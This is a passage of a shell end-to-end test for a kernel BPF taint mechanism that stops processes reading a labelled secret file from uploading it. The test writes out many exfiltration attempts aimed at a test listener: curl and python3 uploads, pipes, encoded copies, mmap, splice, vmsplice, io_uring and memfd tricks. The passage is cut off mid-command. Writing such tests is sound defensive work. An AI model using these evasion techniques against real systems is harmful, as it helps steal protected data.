# Issue 14 (2): the BPF LSM process taint in the guest's Debian kernel (bpf in its LSM list).
# futarid with [upload] loads agent/bpf/taint.bpf.c; after the agent has judged a labelled
# Class II file, whatever read it cannot send to the network (a dummy interface with a
# TEST-NET-1 address and a listener inside the guest; the guest has no network backend):
# pipes, stdin redirection, python3, the dynamic loader, copies to tmpfs, base64/xz copies,
# fork/exec. An untainted shell (even one that only opened the file) still sends, an exempt
# "browser" is never cut off, content+user+program approved through the real request, sign
# and redeem path sends (and the same content through a redirection does not), an approval
# ends in the kernel at its window's end, and every denial is an
# upload.denied record (layer bpf-lsm) naming process, executable, file and class.
# e2e-timeout: 1200
. "$E2E_SRCDIR/guest/agent.sh"
. "$E2E_SRCDIR/guest/taint.sh"
fe_setup
ft_guest python3 xz base64 ip
ft_watched 32M
f=$U/tender-77-bid.txt
MARKER=TENDER77-SECRET-BID
e2e_as hanako sh -c "printf '%s price 1234567 yen (TEST ONLY)\n' $MARKER >'$f'"
setfattr -n trusted.futari.class -v II "$f" || fail "cannot label $f"
ft_browser
ft_listener

# Before the agent: curl reads the file and sends it (so the later refusals are the taint).
e2e_as hanako timeout 20 "$CURL" -s -m 10 -o /dev/null -H Expect: -T - "$URL" <"$f" ||
	fail "hanako's curl cannot send to the listener even before futarid runs"
grep -q "$MARKER" "$recv" || fail "the listener did not receive the file before futarid ran"
: >"$recv"

ft_start_agent 22
status() { ft_status "$1"; }

ft_prime "$f"

# denied NAME COMMAND: as hanako, COMMAND must fail to deliver, the listener must not see the
# marker, and one more bpf-lsm upload.denied naming the file must be logged.
denied() {
	local name=$1 before rc=0 i
	shift
	before=$(denials)
	e2e_as hanako timeout 30 bash -c "$1" >"$E2E_SCRATCH/$name.out" 2>&1 || rc=$?
	[ "$rc" -ne 124 ] || fail "$name: hung"
	[ "$rc" -ne 0 ] || fail "$name: succeeded (exit 0): $(cat "$E2E_SCRATCH/$name.out")"
	if grep -q "$MARKER\|$name-DATA" "$recv"; then fail "$name: the listener received the data"; fi
	denied_since "$before" "$name: no upload.denied (bpf-lsm) logged"
	note "$name: refused (exit $rc), logged"
}
allowed() { # NAME WHO COMMAND: must deliver NAME-DATA
	local name=$1 who=$2
	e2e_as "$who" timeout 30 bash -c "$3" >"$E2E_SCRATCH/$name.out" 2>&1 ||
		fail "$name: refused: $(cat "$E2E_SCRATCH/$name.out") $(tail -n 1 "$FE_LOG"/egress-*.jsonl | cut -c1-600) (file: $(stat -c 'dev %d ino %i' "$f"))"
	grep -q "$name-DATA\|$MARKER" "$recv" || fail "$name: the listener did not receive it"
	: >"$recv"
	note "$name: sent"
}

C="$CURL -s -m 10 -o /dev/null -H Expect:"
denied pipe "cat '$f' | $C --data-binary @- $URL"
rec=$(fe_log_has '"upload.denied"' bpf-lsm tender-77-bid.txt) || fail "upload.denied does not name the file"
echo "$rec" | grep -F "$CURL" >/dev/null || fail "upload.denied does not name the executable: $rec"
echo "$rec" | grep -F '"II"' >/dev/null || fail "upload.denied does not carry the class: $rec"
echo "$rec" | grep -F "\"uid\":$(id -u hanako)" >/dev/null || fail "upload.denied does not name the uid: $rec"
echo "$rec" | grep -F '"pid":' >/dev/null || fail "upload.denied does not name the process: $rec"
# Standard input redirected from the file: since round 18 fanotify refuses curl's start when
# it would inherit a Class I/II file (upload-exec-inherit.sh), so the taint's part is shown
# with python3 reading its standard input (no upload program: only the taint stops it).
denied stdin "python3 -c 'import sys, urllib.request; urllib.request.urlopen(\"$URL\", data=sys.stdin.buffer.read(), timeout=10)' <'$f'"
rc=0
e2e_as hanako timeout 30 bash -c "$C -T - $URL <'$f'" >"$E2E_SCRATCH/stdin-curl.out" 2>&1 || rc=$?
[ "$rc" -ne 0 ] || fail "stdin-curl: curl started with the Class II file on its standard input and sent it"
if grep -q "$MARKER" "$recv"; then fail "stdin-curl: the listener received the data"; fi
fe_log_has '"upload.denied"' '"call":"exec"' tender-77-bid.txt >/dev/null ||
	fail "stdin-curl: no upload.denied (fanotify, call exec) for curl's start: $(tail -n 2 "$FE_LOG"/egress-*.jsonl | cut -c1-600)"
note "stdin-curl: curl refused at its start (exit $rc), logged by fanotify"
# A reader already blocked on an empty pipe when the tainted writer writes: its read check
# ran before it blocked, so only the read's return (fexit/pipe_read) can taint it. curl
# connects and waits on stdin; cat reads the file and writes 3 s later. (curl's fread reads
# again until EOF, and that second read's check sees the marked pipe: this one was refused
# before fexit/pipe_read too.)
denied pipe-blocked "(sleep 3; cat '$f') | $C -T - $URL"
# A tee(2) that waits for its source pipe (round 13): $bin/pipe-feed's tee from the empty
# pipe starts before cat writes the file into it, so the entry program saw nothing marked;
# the source's mark goes to the destination when the tee returns (fexit/do_tee), and curl,
# reading the destination after, is tainted. Before round 13 the roster went out.
[ -x "$bin/pipe-feed" ] || fail "no pipe-feed (guest/pipe-feed.c needs gcc in the guest)"
denied tee-wait "(sleep 1; exec cat '$f') | '$bin/pipe-feed' --tee | (sleep 3; exec $C -T - $URL)"
# While that tee waits, its destination is pending on a number the kernel made (no file is
# known yet): python3 reads what an untainted printf put there before, 2 s into the wait, and
# is refused its connect until the tee returns (the price of closing the window), and the
# record says why it names no file (round 14: it said nothing).
denied tee-wait-pending "{ printf 'tee-wait-pending-DATA\n'; (sleep 8; exec cat '$f') | '$bin/pipe-feed' --tee; } | python3 -c 'import os,socket,time; time.sleep(2); d=os.read(0, 64); s=socket.create_connection((\"192.0.2.1\", 8080), 10); s.sendall(b\"PUT /up HTTP/1.0\r\nContent-Length: 30\r\n\r\n\" + d)'"
fe_log_has '"upload.denied"' bpf-lsm '"classification":"pending"' '"pending_from":"what a splice or tee was still waiting for' >/dev/null ||
	fail "tee-wait-pending: the refusal does not say it was pending on a tee's wait: $(tail -n 1 "$FE_LOG"/egress-*.jsonl | cut -c1-700)"
# The same wait in a splice(2) from the pipe into a file (round 13): the file's write check
# ran before the data came, so it takes a pending number the splice's return resolves to the
# pipe's mark; curl uploading the file (on the tmpfs fanotify does not watch) is refused.
denied splice-file-wait "(sleep 1; exec cat '$f') | '$bin/pipe-feed' --splice-file '$shm/spliced.txt' && grep -q $MARKER '$shm/spliced.txt' && $C -T '$shm/spliced.txt' $URL"
# A reader that reads once, and says when it waits: python3 connects, sends its header and
# blocks in read(0) before the writer starts; its one read returns the content, then it
# sends. Without fexit/pipe_read the listener received it.
rm -f "$shm/blocked.ready"
denied pipe-blocked-read "(while [ ! -e '$shm/blocked.ready' ]; do sleep 0.1; done; sleep 1; cat '$f') | python3 -c 'import os,socket,sys; s=socket.create_connection((\"192.0.2.1\", 8080), 10); s.sendall(b\"PUT /up HTTP/1.0\r\nContent-Length: 200\r\n\r\n\"); open(sys.argv[1], \"w\").close(); d=os.read(0, 65536); print(\"read\", len(d), file=sys.stderr); s.sendall(d)' '$shm/blocked.ready'"
grep -q "^read [1-9]" "$E2E_SCRATCH/pipe-blocked-read.out" ||
	fail "pipe-blocked-read: refused before its read returned: $(cat "$E2E_SCRATCH/pipe-blocked-read.out")"
denied python "python3 -c 'import urllib.request; d=open(\"$f\",\"rb\").read(); urllib.request.urlopen(\"$URL\", data=d, timeout=10)'"
denied loader "/lib64/ld-linux-x86-64.so.2 $C -T - $URL <'$f'"
e2e_as hanako cp "$f" "$shm/copy.txt"
denied tmpfs-copy "$C -T '$shm/copy.txt' $URL"
e2e_as hanako sh -c "base64 '$f' >'$shm/copy.b64'; xz -c '$f' >'$shm/copy.xz'"
denied base64-copy "$C -T '$shm/copy.b64' $URL"
denied xz-copy "$C -T '$shm/copy.xz' $URL"
# A file mapped shared and writable before the process read anything (round 12): what it
# stores into the mapping reaches the file with no write a hook sees. When the process takes
# its mark (its read of $f), the file still mapped at a noted address takes the mark at once,
# before the read returns, so curl's read of the file taints curl. The writer stores and
# exits at once: nothing is left to the agent after the fact.
e2e_as hanako python3 -c 'import mmap,os,sys
fd=os.open(sys.argv[2], os.O_RDWR|os.O_CREAT|os.O_TRUNC, 0o600); os.ftruncate(fd, 4096)
m=mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_READ|mmap.PROT_WRITE)
d=open(sys.argv[1],"rb").read()
m[:len(d)]=d; m.flush()' "$f" "$shm/mapped.bin"
grep -q "$MARKER" "$shm/mapped.bin" || fail "shared-mmap: the mapped file does not hold the content"
denied shared-mmap "$C -T '$shm/mapped.bin' $URL"
# The shell itself reads (the builtin read), then forks and execs curl, which read nothing.
denied fork-exec "IFS= read -r line <'$f'; bash -c 'exec $C --data-binary fork-exec-DATA $URL'"
# An exec from a thread that is not the process's leader (round 17): the exec'ing thread
# becomes the leader and the old one, where the taint sat, is released. python3 reads the file
# and a second thread execs curl with the content as its argument; before, curl sent it.
install -m 0644 "$E2E_SRCDIR/guest/thread-exec.py" "$E2E_SCRATCH/thread-exec.py"
denied thread-exec "python3 '$E2E_SCRATCH/thread-exec.py' '$f' $CURL -s -m 10 -o /dev/null -H Expect: --data-binary @ $URL"
# splice(2) moves data without read() or write(): a file spliced into a pipe marks the pipe
# (the reader is tainted), a splice from a marked pipe taints the splicer before its write to a
# socket is checked, so an untainted process that connected first cannot splice the content out.
denied splice-to-pipe "python3 -c 'import os,sys; fd=os.open(sys.argv[1], os.O_RDONLY); os.splice(fd, 1, os.fstat(fd).st_size)' '$f' | $C --data-binary @- $URL"
denied splice-to-socket "cat '$f' | python3 -c 'import os,socket,sys; s=socket.create_connection((\"192.0.2.1\", 8080), 10); print(\"connected\", file=sys.stderr); s.sendall(b\"PUT /up HTTP/1.0\r\nContent-Length: 200\r\n\r\n\"); print(\"header sent\", file=sys.stderr); os.splice(0, s.fileno(), 65536)'"
grep -q "header sent" "$E2E_SCRATCH/splice-to-socket.out" ||
	fail "splice-to-socket: refused before the splice: $(cat "$E2E_SCRATCH/splice-to-socket.out") $(tail -n 2 "$FE_LOG"/egress-*.jsonl | cut -c1-500)"
# (Logged as a write when cat wrote before the splice started, else as a splice from a pipe.)
{ fe_log_has '"upload.denied"' bpf-lsm 'write to a network socket' ||
	fe_log_has '"upload.denied"' bpf-lsm 'splice from a pipe into a network socket'; } >/dev/null ||
	fail "the refused splice to a socket is not logged: $(tail -n 1 "$FE_LOG"/egress-*.jsonl | cut -c1-600)"
# A splice from a pipe into a socket that blocks before the tainted writer writes: every check
# ran before the wait, and the data then goes out through sendpage, which no LSM hook sees.
# What the pipe will carry cannot be decided when the splice starts: a splice from a pipe into
# an internet socket is refused for every program not exempt, tainted or not. python3
# connects, sends its header, says it waits, and splices; cat writes 1 s later. Before the
# policy the listener received the file.
rm -f "$shm/splice.ready"
denied splice-blocked "(while [ ! -e '$shm/splice.ready' ]; do sleep 0.1; done; sleep 1; cat '$f') | python3 -c 'import os,socket,sys; s=socket.create_connection((\"192.0.2.1\", 8080), 10); s.sendall(b\"PUT /up HTTP/1.0\r\nContent-Length: 200\r\n\r\n\"); print(\"header sent\", file=sys.stderr); open(sys.argv[1], \"w\").close(); os.splice(0, s.fileno(), 65536)' '$shm/splice.ready'"
grep -q "header sent" "$E2E_SCRATCH/splice-blocked.out" ||
	fail "splice-blocked: refused before the splice: $(cat "$E2E_SCRATCH/splice-blocked.out")"
grep -q "PermissionError" "$E2E_SCRATCH/splice-blocked.out" ||
	fail "splice-blocked: the splice was not refused with EPERM: $(cat "$E2E_SCRATCH/splice-blocked.out")"
# An untainted process's splice from a pipe into a socket is refused too, and logged as such
# (no file, no class: it read none).
denied splice-untainted "printf splice-untainted-DATA | python3 -c 'import os,socket; s=socket.create_connection((\"192.0.2.1\", 8080), 10); s.sendall(b\"PUT /up HTTP/1.0\r\nContent-Length: 200\r\n\r\n\"); os.splice(0, s.fileno(), 65536)'"
rec=$(fe_log_has '"upload.denied"' bpf-lsm 'splice from a pipe into a network socket') ||
	fail "the refused splice is not logged as one: $(tail -n 1 "$FE_LOG"/egress-*.jsonl | cut -c1-600)"
echo "$rec" | grep -F '"splice"' >/dev/null || fail "the splice refusal does not say splice: $rec"
# io_uring's IORING_OP_SPLICE goes through do_splice as well (from an io-wq worker, a thread
# of the same process): a splice from a pipe into a socket is refused the same way, and
# logged. A small C helper (guest/uring-splice.c, raw syscalls; python3 has no io_uring)
# built here with the guest's gcc connects, sends its header, then submits the splice.
gcc -O2 -Wall -o "$E2E_SCRATCH/uring-splice" "$E2E_SRCDIR/guest/uring-splice.c" ||
	fail "cannot build the io_uring splice helper (gcc)"
denied uring-splice "printf uring-splice-DATA | '$E2E_SCRATCH/uring-splice' 192.0.2.1 8080"
grep -q "header sent" "$E2E_SCRATCH/uring-splice.out" ||
	fail "uring-splice: refused before the splice: $(cat "$E2E_SCRATCH/uring-splice.out")"
grep -q "splice result -1 (Operation not permitted)" "$E2E_SCRATCH/uring-splice.out" ||
	fail "uring-splice: the splice was not refused with EPERM: $(cat "$E2E_SCRATCH/uring-splice.out")"
fe_log_has '"upload.denied"' bpf-lsm 'splice from a pipe into a network socket' uring-splice >/dev/null ||
	fail "uring-splice: the refusal is not logged as a splice naming the helper: $(tail -n 1 "$FE_LOG"/egress-*.jsonl | cut -c1-600)"
# Splices from a pipe into a unix socket and into a file are not refused.
e2e_as hanako python3 -c '
import os, socket, sys
a, b = socket.socketpair()
r, w = os.pipe()
os.write(w, b"u" * 10)
assert os.splice(r, a.fileno(), 10) == 10 and b.recv(10) == b"u" * 10
fd = os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
os.write(w, b"f" * 10)
assert os.splice(r, fd, 10) == 10' "$shm/splice-file" >"$E2E_SCRATCH/splice-local.out" 2>&1 ||
	fail "a splice from a pipe into a unix socket or a file was refused: $(cat "$E2E_SCRATCH/splice-local.out")"
# memfd: written by a tainted process, read through /proc by an untainted one, which is then
# tainted (write() marks the memfd's inode like a file's).
rm -f "$shm/memfd.path" "$shm/memfd.ready"
# The holder names its memfd before it reads the file (a file a tainted process writes is
# marked, and this shell must not read one), then says it is ready by creating a file.
e2e_as hanako timeout 60 python3 -c '
import os, sys, time
m = os.memfd_create("x")
open(sys.argv[2], "w").write("/proc/%d/fd/%d" % (os.getpid(), m))
d = open(sys.argv[1], "rb").read()
os.write(m, d)
open(sys.argv[3], "w").close()
time.sleep(50)' "$f" "$shm/memfd.path" "$shm/memfd.ready" &
MPID=$!
for ((i = 0; i < 100; i++)); do [ -e "$shm/memfd.ready" ] && break; sleep 0.1; done
[ -e "$shm/memfd.ready" ] || fail "the memfd holder did not start"
denied memfd "$C --data-binary @$(cat "$shm/memfd.path") $URL"
kill "$MPID" 2>/dev/null
wait "$MPID" 2>/dev/null || true
fe_log_has '"upload.denied"' bpf-lsm 'tried to connect' >/dev/null || fail "no refused connect logged"
fe_log_has '"upload.denied"' bpf-lsm 'tried to send' >/dev/null || fail "no refused send logged"

# Not tainted: a shell that only opened the file (a redirection nobody read), a fresh
# shell, and the exempt browser (never cut off from the network, nor from unmarked files).
# (curl is started without descriptor 3: since round 18 an upload program that would inherit
# a readable Class I/II file is refused at its start by fanotify)
allowed open-only hanako "exec 3<'$f'; $C --data-binary open-only-DATA $URL 3<&-"
allowed untainted hanako "$C --data-binary untainted-DATA $URL"
B="'$bin/firefox-test' -s -m 10 -o /dev/null -H Expect:"
allowed browser hanako "$B --data-binary browser-DATA $URL"
e2e_as hanako sh -c "echo 'browser-file-DATA public notice' >'$shm/notice.txt'"
allowed browser-file hanako "$B -T '$shm/notice.txt' $URL"
# The browser is never tainted, so a copy of the Class II file (plain, encoded) is refused to
# it where it reads: on the unwatched tmpfs by the kernel side (a read of a marked file by an
# exempt program), on the watched filesystem at open by fanotify too (the kernel's mark
# raises the copy's Class III content to Class II). Before this round both went out.
# browser_refused NAME FILE TEXT: the browser reads FILE to upload it; its read fails (curl
# then sends an empty body and exits 0, so the exit code says nothing), TEXT never reaches the
# listener, and a bpf-lsm refusal of the browser's read of FILE is logged.
browser_refused() {
	local i
	: >"$recv"
	e2e_as hanako timeout 30 bash -c "$B -T '$2' $URL" >"$E2E_SCRATCH/$1.out" 2>&1 || true
	! grep -qF "$3" "$recv" || fail "$1: the browser sent the copy"
	for ((i = 0; i < 50; i++)); do
		fe_log_has '"upload.denied"' bpf-lsm "\"read_file\":\"$(basename "$2")\"" firefox-test >/dev/null && break
		sleep 0.1
	done
	[ "$i" -lt 50 ] || fail "$1: the browser's refused read is not logged: $(tail -n 1 "$FE_LOG"/egress-*.jsonl | cut -c1-600)"
	note "$1: the browser's read refused, logged"
}
browser_refused browser-copy "$shm/copy.txt" "$MARKER"
# (The base64 text's start from the marker itself: a command substitution reading the marked
# copy would taint this shell through the pipe, and every later child with it.)
browser_refused browser-b64 "$shm/copy.b64" "$(printf %s "$MARKER" | base64 | head -c 16)"
# The same through a pipe: cat reads the file and pipes it into the browser, which starts
# reading a second later (the pipe is marked by then).
: >"$recv"
before=$(denials)
e2e_as hanako timeout 30 bash -c "cat '$f' | (sleep 1; exec $B -T - $URL)" >"$E2E_SCRATCH/browser-pipe.out" 2>&1 || true
! grep -q "$MARKER" "$recv" || fail "browser-pipe: the browser sent what cat piped into it"
for ((i = 0; i < 50; i++)); do [ "$(denials)" -gt "$before" ] && break; sleep 0.1; done
fe_log_has '"upload.denied"' bpf-lsm '"call":"exempt-read"' firefox-test tender-77-bid.txt >/dev/null &&
	[ "$(denials)" -gt "$before" ] || fail "browser-pipe: the browser's refused read of the pipe is not logged"
note "browser-pipe: the browser's read of a marked pipe refused, logged"
# An exempt program that reads first and waits in a blocking read of the empty pipe (its read
# check ran before any data came: $bin/firefox-tracer --read; curl and browsers poll first
# and read what is there, which the case above covers). cat waits on a gate (a FIFO) that
# this root shell opens only once it sees the reader asleep in read(0) (/proc/PID/syscall) or
# in pipe_read (wait channel); then cat reads the file and writes: refused at cat's write
# (before round 11 the data reached the exempt program unseen).
[ -x "$bin/firefox-tracer" ] || fail "no exempt reader (guest/exempt-tracer.c needs gcc in the guest)"
# gated_reader NAME FEEDER READER-ARGS [bg]: as hanako, FEEDER (a shell command that waits on
# the gate $shm/gate first) piped into $bin/firefox-tracer READER-ARGS (output in
# $shm/reader.out); the gate opens once the reader sleeps in read(0) or pipe_read. Sets rc
# (the pipeline's exit), waited (how it was seen waiting, empty if never), bp, sc, w. With
# bg it returns once the gate is open: the pipeline is WPID, for the caller to wait on.
gated_reader() {
	local i
	rc=0
	rm -f "$shm/reader.pid" "$shm/gate" "$shm/reader.out"
	mkfifo -m 0666 "$shm/gate"
	e2e_as hanako timeout 60 bash -c "$2 |
		{ '$bin/firefox-tracer' $3 >'$shm/reader.out' <&0 & echo \$! >'$shm/reader.pid'; wait \$!; }" >"$E2E_SCRATCH/$1.out" 2>&1 &
	WPID=$!
	waited=
	for ((i = 0; i < 300; i++)); do
		bp=$(cat "$shm/reader.pid" 2>/dev/null) || bp=
		sc= w=
		if [ -n "$bp" ]; then
			sc=$(cat "/proc/$bp/syscall" 2>/dev/null) || sc=
			w=$(cat "/proc/$bp/wchan" 2>/dev/null) || w=
		fi
		case "$sc|$w" in "0 0x0 "*|*pipe_read*) waited="syscall ${sc%% 0x*}, wchan $w, after $i" && break ;; esac
		sleep 0.05
	done
	timeout 10 sh -c 'echo go >"$1"' sh "$shm/gate" || true
	[ "${4-}" = bg ] || wait "$WPID" || rc=$?
}
before=$(denials)
gated_reader browser-pipe-wait "(read -r _ <'$shm/gate'; exec cat '$f')" --read
[ -n "$waited" ] ||
	fail "browser-pipe-wait: the exempt reader (pid ${bp:-?}) never waited in a read of the pipe (syscall ${sc:-?}, wchan ${w:-?}): $(cat "$E2E_SCRATCH/browser-pipe-wait.out")"
! grep -q "$MARKER" "$shm/reader.out" || fail "browser-pipe-wait: the exempt reader got what cat wrote into the pipe it waited on"
for ((i = 0; i < 50; i++)); do [ "$(denials)" -gt "$before" ] && break; sleep 0.1; done
# (the executable: /usr/bin/cat, or the kernel's name of it, cat, when cat had exited before
# the agent read /proc/PID/exe)
fe_log_has '"upload.denied"' bpf-lsm '"call":"exempt-feed"' 'cat"},"object"' 'firefox-tracer), a browser or mail client, reading this pipe' tender-77-bid.txt >/dev/null ||
	fail "browser-pipe-wait: cat's refused write is not logged (exit $rc): $(tail -n 1 "$FE_LOG"/egress-*.jsonl | cut -c1-700)"
grep -q "Operation not permitted" "$E2E_SCRATCH/browser-pipe-wait.out" ||
	fail "browser-pipe-wait: cat's write was not refused: $(cat "$E2E_SCRATCH/browser-pipe-wait.out")"
note "browser-pipe-wait: cat's write into the pipe an exempt reader waits on refused, logged ($waited)"
# The same wait, fed where no check can refuse: vmsplice(2), and tee(2) from a marked pipe
# ($bin/pipe-feed). The data reach the waiting exempt reader; it is exempt no more, and its
# upload of them ($bin/firefox-tracer --read-send, a connect to the listener) is refused and
# logged naming it. Against the programs before round 13 the vmsplice case leaked (the
# reader's next read was refused, but it sent what its first read got).
# fed_wait NAME FEEDER: FEEDER (a shell command, gated) feeds the pipe the reader waits on.
fed_wait() {
	local name=$1 i before fed0
	before=$(denials)
	fed0=$(status taint_exempt_fed)
	gated_reader "$name" "$2" "--read-send 192.0.2.1 8080"
	[ -n "$waited" ] || fail "$name: the exempt reader never waited in a read of the pipe: $(cat "$E2E_SCRATCH/$name.out")"
	grep -q "$MARKER" "$shm/reader.out" ||
		fail "$name: the feeder did not reach the reader (the case is not what it tests): $(cat "$E2E_SCRATCH/$name.out")"
	! grep -q "$MARKER" "$recv" || fail "$name: the exempt reader sent what it was fed by $name"
	[ "$rc" -eq 3 ] || fail "$name: the reader's send was not refused with EPERM (exit $rc): $(cat "$E2E_SCRATCH/$name.out")"
	[ "$(status taint_exempt_fed)" -gt "$fed0" ] || fail "$name: taint_exempt_fed did not count the feed"
	for ((i = 0; i < 50; i++)); do [ "$(denials)" -gt "$before" ] && break; sleep 0.1; done
	fe_log_has '"upload.denied"' bpf-lsm firefox-tracer '192.0.2.1' >/dev/null && [ "$(denials)" -gt "$before" ] ||
		fail "$name: the fed reader's refused send is not logged: $(tail -n 1 "$FE_LOG"/egress-*.jsonl | cut -c1-700)"
	note "$name: an exempt reader fed by $name while it waited is exempt no more: its send refused, logged ($waited)"
}
fed_wait vmsplice "(read -r _ <'$shm/gate'; exec '$bin/pipe-feed' --vmsplice '$f')"
fed_wait tee "cat '$f' | (read -r _ <'$shm/gate'; exec '$bin/pipe-feed' --tee)"
e2e_as hanako sh -c "base64 '$f' >'$U/copy-home.b64'"
rc=0
e2e_as hanako timeout 30 bash -c "$B -T '$U/copy-home.b64' $URL" >"$E2E_SCRATCH/home-copy.out" 2>&1 || rc=$?
[ "$rc" -ne 0 ] && ! grep -q "$MARKER" "$recv" || fail "the browser sent a base64 copy from the watched filesystem (exit $rc)"
fe_log_has '"upload.denied"' 'kernel taint' copy-home.b64 >/dev/null ||
	fail "fanotify's refusal of the browser's open of the copy does not say the kernel's taint: $(grep copy-home "$FE_LOG"/egress-*.jsonl | tail -n 2 | cut -c1-600)"
note "browser: a marked copy refused on tmpfs (kernel) and on the watched filesystem (fanotify)"
# A tainted local server hands the content to the browser over loopback (a web page's
# fetch of http://127.0.0.1:8099/): the browser's receive is refused, logged.
rm -f "$shm/srv.ready"
e2e_as hanako python3 -c '
import socket, sys
d = open(sys.argv[1], "rb").read()
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 8099))
s.listen(1)
open(sys.argv[2], "w").close()
c, _ = s.accept()
c.recv(4096)
c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(d) + d)
c.close()' "$f" "$shm/srv.ready" &
SPID=$!
for ((i = 0; i < 100; i++)); do [ -e "$shm/srv.ready" ] && break; sleep 0.1; done
[ -e "$shm/srv.ready" ] || fail "the tainted local server did not start"
rc=0
got=$(e2e_as hanako timeout 30 "$bin/firefox-test" -s -m 10 http://127.0.0.1:8099/ 2>&1) || rc=$?
kill "$SPID" 2>/dev/null || true # (refused, it may have ended already)
wait "$SPID" 2>/dev/null || true
case $got in *"$MARKER"*) fail "the browser received the content from a tainted local server (exit $rc)" ;; esac
# Either end is refused, whichever comes first: the browser's receive of the marked flow
# (exempt-receive), or, when curl had already tried a receive on its non-blocking socket before
# the answer came (noted as a reader), the server's send (exempt-feed, round 11).
if fe_log_has '"upload.denied"' bpf-lsm '"call":"exempt-receive"' firefox-test >/dev/null; then
	how="the browser's receive"
elif fe_log_has '"upload.denied"' bpf-lsm '"call":"exempt-feed"' 'firefox-test), a browser or mail client, at 127.0.0.1:' >/dev/null; then
	how="the server's send to the browser"
else
	fail "neither the browser's receive nor the server's send is logged as refused (exit $rc): $(tail -n 1 "$FE_LOG"/egress-*.jsonl | cut -c1-600)"
fi
note "browser-loopback: $how refused (browser exit $rc), logged"
# The same with a receive that blocks before the data come ($bin/firefox-tracer --recv, an
# exempt program waiting in recv()): the tainted server's send on that flow is refused.
[ -x "$bin/firefox-tracer" ] || fail "no exempt receiver (guest/exempt-tracer.c needs gcc in the guest)"
rm -f "$shm/srv.ready" "$shm/srv.result"
e2e_as hanako python3 -c '
import socket, sys, time
d = open(sys.argv[1], "rb").read()
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 8098))
s.listen(1)
open(sys.argv[2], "w").close()
c, _ = s.accept()
c.recv(4096)
time.sleep(1.5)
try:
    c.sendall(b"HTTP/1.0 200 OK\r\n\r\n" + d)
    r = "sent"
except OSError as e:
    r = "refused: %s" % e
open(sys.argv[3], "w").write(r)
c.close()' "$f" "$shm/srv.ready" "$shm/srv.result" &
SPID=$!
for ((i = 0; i < 100; i++)); do [ -e "$shm/srv.ready" ] && break; sleep 0.1; done
[ -e "$shm/srv.ready" ] || fail "the tainted local server (8098) did not start"
rc=0
got=$(e2e_as hanako timeout 30 "$bin/firefox-tracer" --recv 8098 2>&1) || rc=$?
wait "$SPID" 2>/dev/null || true
case $got in *"$MARKER"*) fail "the blocked browser received the content from a tainted local server (exit $rc)" ;; esac
# (grep, not a command substitution: the tainted server wrote srv.result, and reading it into
# this shell would taint the shell and everything it starts later.)
grep -q "^refused: .*Operation not permitted" "$shm/srv.result" ||
	fail "the tainted server's send to the waiting browser was not refused: $(cat "$shm/srv.result" 2>&1)"
fe_log_has '"upload.denied"' bpf-lsm '"call":"exempt-feed"' 'firefox-tracer), a browser or mail client, at 127.0.0.1:' >/dev/null ||
	fail "the refused send to the waiting browser is not logged: $(tail -n 1 "$FE_LOG"/egress-*.jsonl | cut -c1-700)"
note "browser-loopback-wait: the tainted server's send to the browser waiting in recv refused, logged"
# futari classify (and so export and upload-request, which judge the same way) says what
# the copy holds, and why.
out=$(e2e_as hanako "$FUTARI" classify "$U/copy-home.b64" 2>&1) || true
case $out in *"Class II"*taint*) ;; *) fail "futari classify of the base64 copy: $out" ;; esac
note "futari classify of the copy: $(echo "$out" | head -n 2 | tr '\n' ' ')"

# A real approval: hanako's upload request for curl, signed by alice, redeemed by hanako. When
# fanotify allows hanako's curl to open the file under it, the agent puts that content, uid
# and program into the kernel's approval map before the open is answered, so the tainted
# curl may send it. The approval is activated by an approved open (curl opens the file
# itself, `-T FILE`); from then on it covers that content, user and program however the
# content reaches the program (a redirection too), and nothing else.
out=$(e2e_as hanako "$FUTARI" upload-request "$f" --to 192.0.2.1 --app "$CURL" \
	--reason "send the bid" 2>&1) || fail "futari upload-request failed: $out"
[ -f "$f.futari-request" ] || fail "no request beside $f: $out"
fe_sign alice "$f.futari-request" "$E2E_SCRATCH/up.futari-approval" ||
	fail "alice could not sign the upload request: $(cat "$FE/sign.out")"
cp "$E2E_SCRATCH/up.futari-approval" /home/hanako/tender-77.futari-approval
chown hanako: /home/hanako/tender-77.futari-approval
out=$(e2e_as hanako "$FUTARI" redeem /home/hanako/tender-77.futari-approval 2>&1) ||
	fail "futari redeem of the upload approval refused: $out"
allowed approved hanako "$C -T '$f' $URL"
[ "$(status taint_approvals)" -ge 1 ] || fail "no approval in the kernel's map: $("$FUTARI" status)"
allowed approved-redirected hanako "$C -T - $URL <'$f'"
denied approved-other-program "python3 -c 'import urllib.request; d=open(\"$f\",\"rb\").read(); urllib.request.urlopen(\"$URL\", data=d, timeout=10)'"
# (refused by fanotify at curl's start since round 18, the approval being hanako's: either
# layer's record counts)
either() { cat "$FE_LOG"/egress-*.jsonl | grep '"upload.denied"' | grep -c 'bpf-lsm\|"call":"exec"' || true; }
before=$(either)
rc=0
e2e_as dave timeout 30 bash -c "$C -T - $URL <'$f'" || rc=$?
[ "$rc" -ne 0 ] && ! grep -q "$MARKER" "$recv" || fail "dave's curl sent under hanako's approval"
[ "$(either)" -gt "$before" ] || { sleep 1; [ "$(either)" -gt "$before" ]; } || fail "dave's refusal not logged"

# An approval of the base64 copy (Class II by its mark) for the browser: requested, signed and
# redeemed like any other; the approved browser's open (fanotify) and read (the kernel: the
# copy's mark names the original, and the approval covers both) then go through.
out=$(e2e_as hanako "$FUTARI" upload-request "$U/copy-home.b64" --to 192.0.2.1 --app "$bin/firefox-test" \
	--reason "send the encoded bid" 2>&1) || fail "futari upload-request of the copy failed: $out"
[ -f "$U/copy-home.b64.futari-request" ] || fail "no request beside the copy: $out"
fe_sign alice "$U/copy-home.b64.futari-request" "$E2E_SCRATCH/b64.futari-approval" ||
	fail "alice could not sign the copy's request: $(cat "$FE/sign.out")"
cp "$E2E_SCRATCH/b64.futari-approval" /home/hanako/b64.futari-approval
chown hanako: /home/hanako/b64.futari-approval
out=$(e2e_as hanako "$FUTARI" redeem /home/hanako/b64.futari-approval 2>&1) ||
	fail "futari redeem of the copy's approval refused: $out"
: >"$recv"
e2e_as hanako timeout 30 bash -c "$B -T '$U/copy-home.b64' $URL" >"$E2E_SCRATCH/b64-approved.out" 2>&1 ||
